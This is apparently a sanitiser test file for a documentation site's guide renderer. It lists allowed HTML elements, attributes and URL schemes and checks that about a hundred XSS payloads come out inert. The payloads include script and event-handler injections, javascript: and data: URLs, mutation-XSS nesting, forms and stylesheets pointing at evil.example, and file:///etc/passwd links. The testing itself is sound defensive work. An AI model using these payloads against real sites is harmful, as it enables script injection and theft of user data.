import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { render } from './harness.ts';

/**
 * What may be in the HTML of a guide, whatever the guide says: the elements
 * and attributes below and nothing else. Whoever adds to them decides that
 * every author of a repository may put them on the site.
 */
const elements = new Set(
  'a b blockquote br code dd del details div dl dt em figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p path picture pre q rp rt ruby s samp section source span strike strong sub summary sup svg table tbody td tfoot th thead tr tt ul var'.split(
    ' ',
  ),
);

const attributes = new Set(
  'align alt aria-describedby aria-hidden aria-label aria-labelledby border cellpadding cellspacing checked class colspan d data-footnote-backref data-footnote-ref data-footnotes data-language data-pagefind-ignore datetime decoding dir disabled fill height href id itemscope itemtype lang loading name open referrerpolicy role rowspan scope size span src start style tabindex title type valign value viewbox width'.split(
    ' ',
  ),
);

/** Allowed by GitHub and without any effect where they may stand. */
const harmless = new Set(
  'abbr accept accept-charset axis char charoff charset clear color cols compact coords for frame headers hreflang hspace label maxlength media multiple nohref noshade nowrap prompt readonly rev rows rules selected shape summary vspace cite srcset'.split(
    ' ',
  ),
);

/** Our own style of an image's height, or of the room for a diagram, and nothing that an author could write. */
const style = /^(?:min-)?height:\d{1,4}px$/;
const address = /^(?:https?:|mailto:|ircs?:|xmpp:|#|\/)/i;

/** What is wrong with a guide's HTML; the serializer quotes every value, so that it can be taken apart by a pattern. */
function problems(markup: string): string[] {
  const found: string[] = [];
  const rest = markup.replaceAll(
    /<(\/?)([a-z][a-z0-9]*)((?:\s+[^\s"'<>=/]+(?:="[^"]*")?)*)>/gi,
    (_, __, name, list) => {
      if (!elements.has(String(name))) found.push(`<${String(name)}>`);
      for (const [, key = '', value = ''] of String(list).matchAll(/([^\s"'<>=/]+)(?:="([^"]*)")?/g)) {
        const attribute = key.toLowerCase();
        if (!attributes.has(attribute) && !harmless.has(attribute)) found.push(attribute);
        if ((attribute === 'href' || attribute === 'src') && !address.test(value)) found.push(`${attribute}=${value}`);
        if (attribute === 'style' && !style.test(value)) found.push(`style=${value}`);
      }
      return '';
    },
  );
  if (rest.includes('<')) found.push(`stray <: ${rest}`);
  return found;
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://e.example/x" style="position:fixed;inset:0">',
  '<img src="x" height="1px;background:url(https://e.example)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="x">',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1)><option>x</option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="https://e.example" target="_blank" ping="https://evil.example" onclick="alert(1)">x</a>',
  '<a href="https://e.example" accesskey="a" tabindex="99">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](https://e.example/x.png)',
  '![x](https://e.example/"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x](https://e.example/ "\\" onmouseover=\\"alert(1)")',
  '[x](\\\\evil.example)',
  '[x](/\\evil.example)',
  '[x](../../../../../../../../etc/passwd)',
  '[x](..\\..\\secret)',
  '```mermaid\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```yaml" onmouseover="alert(1)\na: 1\n```',
  '```yaml\na: </span></code></pre><script>alert(1)</script>\n```',
  '~~~html\n<script>alert(1)</script>\n~~~',
  '# <img src=x onerror=alert(1)>',
  '## "><script>alert(1)</script>',
  '## x" onmouseover="alert(1)',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '> [!"><script>alert(1)</script>]\n> x',
  '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |',
  '[^"><script>]: x\n\ntext[^"><script>]',
  '- [x] <img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?><script>alert(1)</script>',
  '<a href="x">a<a href="javascript:alert(1)">b</a></a>',
  '<table><script>alert(1)</script><tr><td onclick=alert(1)>x</table>',
  '---\ntitle: "<script>alert(1)</script>"\ndescription: "<img src=x onerror=alert(1)>"\n---\n',
];

describe('nothing of a guide becomes script', () => {
  test.each(hostile)('%s', (text) => {
    for (const path of ['docs/guide.md', 'docs/guide.mdx']) {
      const { html } = render(`Before.\n\n${text}\n\nAfter.`, { path });
      expect(problems(html)).toEqual([]);
      expect(html).toContain('Before.');
    }
  });

  test('any text gives HTML of the allowed form, and the same one each time', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string(),
      fc.constantFrom(
        '\n\n',
        '\n',
        '> ',
        '- ',
        '`',
        '```\n',
        '<div>',
        '</div>',
        '<details>',
        '| - |\n',
        '    ',
        '<a id="x">',
      ),
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (fragments) => {
        const text = fragments.join('');
        const { html } = render(text);
        expect(problems(html)).toEqual([]);
        expect(render(text).html).toBe(html);
      }),
      { numRuns: 150 },
    );
  });
});

describe('ids', () => {
  test.each([
    '<div id="starlight__sidebar">x</div>',
    '<a name="getElementById">x</a>',
    '<img src="https://e.example/x.png" id="body" name="cookie">',
    '<h2 id="_top">Heading</h2>',
    '<p id="user-content-x">x</p>',
  ])('%s takes none of the page', (text) => {
    const { html } = render(`Text.\n\n${text}`);
    for (const [, id] of html.matchAll(/ (?:id|name)="([^"]*)"/g)) expect(id).toMatch(/^(?:user-content-.+|heading)$/);
  });

  test('no id stands twice', () => {
    const { html } = render('<a id="x">1</a> <a id="x">2</a>\n\n## A\n\n## A\n\n<h2 id="x">A</h2>');
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
    expect(ids).toEqual(['user-content-x', 'a', 'a-1', 'a-2']);
  });
});

test('the text of what is taken out does not appear', () => {
  const { html, text } = render('a<script>one()</script><style>.two{}</style><svg><text>three</text></svg>b');
  expect(html).toBe('<p>ab</p>');
  expect(text).toBe('ab');
});

test('the title is plain text: whoever shows it escapes it', () => {
  expect(render('# A <b>b</b> <script>c</script>').title).toBe('A b');
});
